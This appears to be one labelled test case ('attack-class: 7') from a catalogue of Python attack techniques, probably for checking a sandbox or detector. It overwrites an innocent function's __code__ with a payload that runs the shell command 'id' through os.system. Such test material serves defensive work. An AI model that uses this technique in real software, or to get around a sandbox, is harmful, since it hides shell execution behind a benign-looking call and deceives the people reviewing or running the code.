# attack-class: 7
# title: replace a function __code__ with another one
# why: rewrites a user function's code object so an innocent call runs attacker bytecode

def innocent():
    return "ok"

def payload():
    return __import__("os").system("id")

innocent.__code__ = payload.__code__
innocent()
